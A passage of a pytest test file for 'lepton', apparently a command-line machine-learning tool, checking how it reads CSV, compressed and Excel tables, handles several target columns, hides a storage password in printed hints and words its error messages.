    with pytest.raises(ValueError, match=r"t\.parquet\.gz.*give it uncompressed \(t\.parquet\)"):
        read_table(tmp_path / "t.parquet.gz")
    with pytest.raises(ValueError, match=r"t\.gz.* must end in \.csv"):
        read_table(tmp_path / "t.gz")


def _customers():
    """60 customers with German names, as a spreadsheet in Germany keeps them: the
    sales figure (``umsatz``) and a target following it."""
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"name": [f"Müller {i}" for i in range(60)],
                          "umsatz": rng.normal(100, 20, 60).round(2)})
    frame["y"] = frame.umsatz * 2 + rng.normal(0, 1, 60)
    return frame


def test_lepton_predict_writes_a_semicolon_file_back_as_it_came(tmp_path, capsys):
    """Predictions for a file Excel wrote with semicolons and decimal commas are written
    the same way (and in its encoding), so they open in Excel as the input did."""
    import numpy as np
    import pandas as pd

    frame = _customers()
    path = tmp_path / "kunden.csv"
    frame.to_csv(path, sep=";", decimal=",", index=False, encoding="cp1252")
    saved = tmp_path / "model.joblib"
    assert main(["run", str(path), "--target", "y", "--fixed", "--save", str(saved)]) == 0
    assert ("read kunden.csv as semicolon-separated, decimal commas, encoding cp1252"
            in capsys.readouterr().out)
    out = tmp_path / "pred.csv"
    assert main(["predict", str(saved), str(path), "--out", str(out), "--keep", "name"]) == 0
    text = out.read_bytes().decode("cp1252")
    assert text.startswith("name;prediction\nMüller 0;")
    assert "," in text.splitlines()[1].split(";")[1]  # a decimal comma
    back = pd.read_csv(out, sep=";", decimal=",", encoding="cp1252")
    assert back["prediction"].dtype == np.float64 and len(back) == 60


def test_an_excel_workbook_is_read_by_its_first_sheet_and_predictions_written_back(
        tmp_path, capsys):
    import pandas as pd

    frame, _ = _table(tmp_path)
    frame["day"] = pd.date_range("2024-01-01", periods=len(frame), freq="D")  # a date cell
    book = tmp_path / "sales.xlsx"
    with pd.ExcelWriter(book) as writer:
        frame.to_excel(writer, sheet_name="Data", index=False)
        frame.head(3).to_excel(writer, sheet_name="Notes", index=False)
    saved = tmp_path / "model.joblib"
    assert main(["run", str(book), "--target", "label", "--fixed", "--save", str(saved)]) == 0
    out = capsys.readouterr().out
    assert "dataset=sales task=classification rows=200" in out
    assert "read sales.xlsx: sheet 'Data', the first of 2 (not 'Notes')" in out
    assert "column 'day': dates (datetime64)" in out
    pred = tmp_path / "pred.xlsx"
    assert main(["predict", str(saved), str(book), "--out", str(pred), "--keep", "a"]) == 0
    back = pd.read_excel(pred)
    assert list(back.columns) == ["a", "prediction"] and len(back) == 200
    assert set(back.prediction) <= {"pos", "neg"}


def test_a_title_above_an_excel_table_is_passed_over_to_its_header(tmp_path, capsys):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["Sales report, Q3 2024"])  # a title, an empty row, then the table
    sheet.append([])
    sheet.append(["store", "price", "units"])
    for i in range(40):
        sheet.append([f"s{i % 3}", 1.5 * i, 2 * i])
    book.save(tmp_path / "report.xlsx")
    import warnings

    from lepton.datasets import read_table

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # pandas deprecated ExcelFile.parse (Pandas4Warning)
        assert read_table(tmp_path / "report.xlsx").columns.tolist() == ["store", "price",
                                                                          "units"]
    assert main(["run", str(tmp_path / "report.xlsx"), "--target", "units", "--fixed"]) == 0
    out = capsys.readouterr().out
    assert "dataset=report task=regression rows=40" in out
    assert "read report.xlsx: its header from row 3 (a title above it)" in out


def test_files_excel_cannot_give_are_refused_with_the_reason(tmp_path, capsys):
    (tmp_path / "old.xls").write_bytes(b"\xd0\xcf\x11\xe0")  # an OLE2 (Excel 97) header
    (tmp_path / "fake.xlsx").write_text("not a workbook")
    assert main(["run", str(tmp_path / "old.xls"), "--target", "y"]) == 2
    assert "Excel 97-2003 workbook (.xls), which Lepton does not read: save it as .xlsx" in (
        capsys.readouterr().err)
    assert main(["run", str(tmp_path / "fake.xlsx"), "--target", "y"]) == 2
    assert "cannot be read as Excel: ValueError: not an Excel workbook" in (
        capsys.readouterr().err)


@pytest.mark.parametrize("suffix", ["gz", "bz2", "xz", "zip"])
def test_a_damaged_compressed_table_is_refused_with_the_reason(tmp_path, suffix):
    from lepton.datasets import read_table

    path = tmp_path / f"t.csv.{suffix}"
    path.write_bytes(MAGIC[suffix] + b"\x00 cut off in the download")
    with pytest.raises(ValueError, match=r"t\.csv\.%s' cannot be read as CSV: " % suffix):
        read_table(path)


def test_lepton_run_and_predict_with_several_target_columns(tmp_path, capsys):
    """0/1 target columns are one multilabel target (one search, a network with an output
    per label); columns of numbers a regression's outputs; text among several refused.
    lepton predict names its columns after the targets."""
    import joblib
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"a": rng.normal(size=300), "b": rng.normal(size=300),
                          "shop": rng.choice(["x", "y"], 300)})
    frame["urgent"] = (frame.a > 0).astype(object)  # True/False, one cell missing: pandas
    frame.loc[5, "urgent"] = None                   # reads the column back as text
    frame["vip"] = ((frame.b > 0) & (frame.shop == "x")).astype(int)
    frame.loc[[3, 8], "vip"] = np.nan  # rows missing one label are left out, and said
    frame["amount"] = 2 * frame.a + rng.normal(size=300)
    frame["days"] = frame.b ** 2
    path = tmp_path / "tickets.csv"
    frame.drop(columns=["amount", "days"]).to_csv(path, index=False)
    saved = tmp_path / "tags.joblib"
    assert main(["run", str(path), "--target", "urgent", "vip", "--time-budget", "10",
                 "--no-tracking", "--save", str(saved)]) == 0
    out = capsys.readouterr().out
    assert "dataset=tickets task=classification rows=297" in out
    assert ("left out 3 row(s) missing one of the targets ['urgent', 'vip'] (rows 4, 6, 9"
            in out)
    assert float(re.search(r"held-out accuracy: ([0-9.]+)", out).group(1)) > 0.6
    model = joblib.load(saved)
    assert model.multilabel_ and model.target_names_ == ["urgent", "vip"]
    frame.head(20).to_csv(tmp_path / "new.csv", index=False)
    assert main(["predict", str(saved), str(tmp_path / "new.csv"), "--proba"]) == 0
    pred = pd.read_csv(io.StringIO(capsys.readouterr().out))
    assert list(pred.columns) == ["urgent", "vip", "proba_urgent", "proba_vip"]
    # each label as the file wrote it: True/False beside 0/1 (urgent was written 1/0)
    assert pred["urgent"].dtype == bool and pred["vip"].dtype == np.int64
    assert set(pred["vip"]) <= {0, 1} and pred["proba_vip"].between(0, 1).all()

    numbers = tmp_path / "amounts.csv"
    frame.drop(columns=["urgent", "vip"]).to_csv(numbers, index=False)
    assert main(["run", str(numbers), "--target", "amount", "days", "--time-budget", "10",
                 "--no-tracking"]) == 0
    out = capsys.readouterr().out
    assert "task=regression" in out and re.search(r"held-out r2: [0-9.]+", out)
    assert main(["run", str(path), "--target", "urgent", "shop"]) == 2
    assert (f"target column 'shop' holds text (e.g. {frame.shop[0]!r}); several target "
            "columns must each be 0/1") in capsys.readouterr().err
    assert main(["run", str(path), "--target", "urgent", "nope"]) == 2
    assert "['nope'] not column(s) of tickets.csv" in capsys.readouterr().err


def test_the_worker_hint_hides_the_storages_password(capsys):
    """`lepton run --storage postgresql://u:secret@...` printed the password in the
    `lepton worker` line (the error after it already hid it)."""
    code = main(["run", "iris", "--storage", "postgresql://u:secret@127.0.0.1:1/x",
                 "--no-tracking", "--time-budget", "5"])
    out, err = capsys.readouterr()
    assert ("lepton worker --storage postgresql://u:***@127.0.0.1:1/x (with the storage's "
            "password, hidden here)") in out
    assert code != 0 and "secret" not in out + err


@pytest.mark.parametrize("option, said", [
    (["--keep-searches", "0"], "--keep-searches=0: give the number of searches each run "
                               "leaves in its experiment, 1 or more"),
    (["--keep-searches", "3", "--no-tracking"], "--keep-searches applies to the tracking "
                                                "store, and this run is not tracked"),
])
def test_keep_searches_is_checked_before_the_data_loads(tmp_path, capsys, option, said):
    assert main(["run", str(tmp_path / "big.csv"), "--target", "y", *option]) == 2
    err = capsys.readouterr().err
    assert said in err and "big.csv" not in err


def test_a_librarys_own_warning_is_not_shown_as_leptons(capsys):
    """With PYTHONWARNINGS=default, SQLAlchemy's deprecation (through MLflow) was printed
    'lepton: warning: SADeprecationWarning: ...' (review helper-77)."""
    from lepton.cli import _show_warning
    from lepton._warn import LeftOutColumnsWarning

    class LibraryWarning(DeprecationWarning):
        pass

    LibraryWarning.__module__ = "sqlalchemy.exc"
    _show_warning("noload is deprecated", LibraryWarning, "/x/sqlalchemy/orm.py", 7)
    _show_warning("the search goes on", RuntimeWarning, "/x/lepton/tracking/_mlflow.py", 9)
    _show_warning("column 'id' left out", LeftOutColumnsWarning, "/x/script.py", 3)
    assert capsys.readouterr().err.splitlines() == [
        "/x/sqlalchemy/orm.py:7: LibraryWarning: noload is deprecated",
        "lepton: warning: RuntimeWarning: the search goes on",
        "lepton: warning: column 'id' left out"]


def test_a_budget_too_small_is_said_in_the_commands_options(capsys):
    """It said 'Increase time_budget, or pass cv=None' to a command that has neither
    (review helper-77)."""
    from lepton.search import BudgetTooSmall

    assert main(["run", "iris", "--time-budget", "0.001", "--no-tracking"]) == 2
    err = capsys.readouterr().err
    assert re.search(r"lepton: error: --time-budget 0\.001 is too small: preparing the data "
                     r"took [\d.]+s.* Give a --time-budget well above \d+\.\d\.$",
                     err.strip()), err
    assert "time_budget=" not in err and "cv=None" not in err
    tracked = BudgetTooSmall(10, ": preparing the data took 3.79s", n_folds=5, floor=12.0,
                             tracking_s=7.0)
    assert tracked.said_as() == (
        "--time-budget 10 is too small: preparing the data took 3.79s. Give a --time-budget "
        "well above 12.0, or --no-tracking (its end-of-search logging needs 7.0s of the "
        "budget).")
    assert str(tracked).startswith("time_budget=10s is too small: preparing the data took "
                                   "3.79s. Increase time_budget, or pass cv=None")
